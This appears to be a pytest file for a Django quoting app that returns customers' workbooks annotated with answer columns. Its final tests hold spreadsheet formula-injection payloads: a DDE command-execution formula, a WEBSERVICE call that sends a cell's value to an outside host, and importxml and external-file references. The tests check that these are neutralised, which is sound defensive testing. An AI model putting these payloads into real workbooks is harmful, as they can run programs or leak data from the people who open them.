"""The workbook given back: the sender's own as it was, our answers beside it, never a formula of ours."""

from copy import copy
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.styles import Font, PatternFill

from fixtures.build import liner as liner_table
from quotes.desk.schedules import correct_line, take_in
from quotes.lists.schedules import annotated
from quotes.schedule import Result, annotated_bytes, read_schedule
from quotes.schedule.write import HEADINGS as OURS
from tests.quotes.sheets import GOOD, HEADINGS, grid, opened, saved, with_cell

OWN = (*HEADINGS, "Storey", "Cost")


def sheet_of(schedule):
    return opened(annotated(schedule))[schedule.title]


def ours(sheet, row, head_row=1):
    """Our cells of a row by the name of their column."""
    names = {heading: name for name, heading in OURS.items()}
    found = {}
    for cell in sheet[head_row]:
        name = names.get(str(cell.value).split(" per ")[0])
        if name:
            found[name] = sheet.cell(row, cell.column).value
    return found


def test_each_line_says_its_answer(liner):
    """Part with price and certainty, question, special, or what can't be read."""
    cottage = ("Stairs", 1, "16", "24", "47 3/8", None, "slate", "9")
    rows = (GOOD, with_cell("Finish", None), cottage, with_cell("Upper glass height", "2-6"))
    schedule = take_in(grid(HEADINGS, *rows), "s.xlsx", liner, by="ann")
    sheet = sheet_of(schedule)
    part, ask, special, bad = (ours(sheet, row) for row in (2, 3, 4, 5))
    number = schedule.lines.first().part
    assert (part["outcome"], part["part"]) == ("part", number.part_number)
    assert Decimal(str(part["price"])) == number.price.amount and 0.9 < part["certainty"] < 1
    assert ask["outcome"] == "question" and "finish" in ask["words"]
    assert special["outcome"] == "special quote" and "cottage" in special["words"]
    assert bad["outcome"] == "can't be read" and "2-6" in bad["words"] and bad["certainty"] is None


def test_the_price_says_what_it_is_for(liner, clerk):
    """A liner is sold and priced by the pair: who reads “each” reckons with two of them. One that went out before
    with “each” is answered in the same column."""
    schedule = take_in(grid((*HEADINGS, "Desk: price each (USD)"), GOOD), "s.xlsx", liner, by="ann")
    heads = [cell.value for cell in sheet_of(schedule)[1]]
    assert [head for head in heads if "price" in head] == ["Desk: price per pair (USD)"]
    page = clerk.get(reverse("schedule", args=[schedule.pk])).text
    assert "Price per pair (USD)" in page and "each (USD)" not in page.split("<tbody>")[0]


def test_the_senders_cells_and_formatting_stay(liner):
    """Values, formulas, fonts, fills, widths and freezing of the sender are as they were."""
    book = opened(grid(OWN, (*GOOD, "second", "==B2*10")))
    sheet = book.active
    sheet["A2"].font, sheet["I2"].fill = Font(italic=True, size=15), PatternFill("solid", "FFEEAA")
    sheet.column_dimensions["A"].width, sheet.freeze_panes = 33, "B2"
    before = {c.coordinate: (c.value, copy(c.font), copy(c.fill)) for row in sheet for c in row}
    after = sheet_of(take_in(saved(book), "s.xlsx", liner, by="ann"))
    assert {at: (after[at].value, after[at].font, after[at].fill) for at in before} == before
    assert after["J2"].value == "=B2*10" and after["J2"].data_type == "f"
    assert (after.column_dimensions["A"].width, after.freeze_panes) == (33, "B2")


def test_a_second_round_does_not_double_our_columns(liner):
    """An answered workbook sent in again is answered in the same columns."""
    first = annotated(take_in(grid(OWN, (*GOOD, "second", 4)), "s.xlsx", liner, by="ann"))
    again = annotated(take_in(first, "s.xlsx", liner, by="ann"))
    heads = [[cell.value for cell in opened(content).active[1]] for content in (first, again)]
    assert heads[0] == heads[1]
    assert ours(opened(again).active, 2)["outcome"] == "part"


def test_what_was_corrected_is_said_beside_the_senders_cell(liner):
    """The sender's cell keeps what was sent; our column says what the desk took instead of it."""
    schedule = take_in(grid(HEADINGS, with_cell("Quantity", "two")), "s.xlsx", liner, by="ann")
    line = schedule.lines.get()
    correct_line(line.pk, {**line.cells, "quantity": "2"}, [], left_out=False, by="ann")
    sheet = sheet_of(schedule)
    assert sheet["B2"].value == "two"
    assert ours(sheet, 2)["changed"] == "Quantity was two"


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")', "\t=1"]
)
def test_a_label_that_looks_like_a_formula_stays_text(liner, text):
    """Text that begins like a formula comes back as text, in the sender's cell and in ours."""
    content = grid(HEADINGS, with_cell("Upper glass height", text, with_cell("Window", text)))
    sheet = sheet_of(take_in(content, "s.xlsx", liner, by="ann"))
    assert all(cell.data_type != "f" for row in sheet for cell in row)


@settings(
    max_examples=30,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.text(max_size=40), st.text(max_size=40))
def test_no_text_of_ours_is_ever_a_formula(words, changed):
    """Whatever an answer quotes, what is written is text and can be opened again."""
    content = grid(HEADINGS, GOOD)
    read = read_schedule(content, liner_table())
    result = Result("part", part=words, words=words, certainty=0.99999, changed=changed)
    made = annotated_bytes(
        content, title=read.title, head_row=read.head_row, own=read.own, results={2: result}, currency="USD",
        sold_as="pair",
    )  # fmt: skip
    sheet = opened(made)[read.title]
    assert all(cell.data_type != "f" for row in sheet for cell in row)
    assert sheet.cell(2, read.own + 4).value == 0.999


@pytest.mark.parametrize(
    "formula, stays",
    [
        ("=B2*10", True),
        ("=SUM(Table1[Cost])", True),
        ("=VLOOKUP(A2,'Other sheet'!A:B,2,FALSE)", True),
        ("=[1]Prices!A1", False),
        ("='[costs.xlsx]Prices'!A1", False),
        ("='C:\\desk\\[costs.xlsx]Prices'!A1", False),
        ("=cmd|'/c calc'!A1", False),
        ('=WEBSERVICE("http://example.net/"&A2)', False),
        ('=importxml("http://example.net","//a")', False),
    ],
)
def test_what_reaches_out_of_the_workbook_is_cut_off(liner, formula, stays):
    """The sender's own formulas stay; one that asks another file, program or server becomes its text."""
    content = grid(OWN, (*GOOD, "second", f"={formula}"))
    assert opened(content).active["J2"].data_type == "f"
    cell = sheet_of(take_in(content, "s.xlsx", liner, by="ann"))["J2"]
    assert (cell.value, cell.data_type) == (formula, "f" if stays else "s")
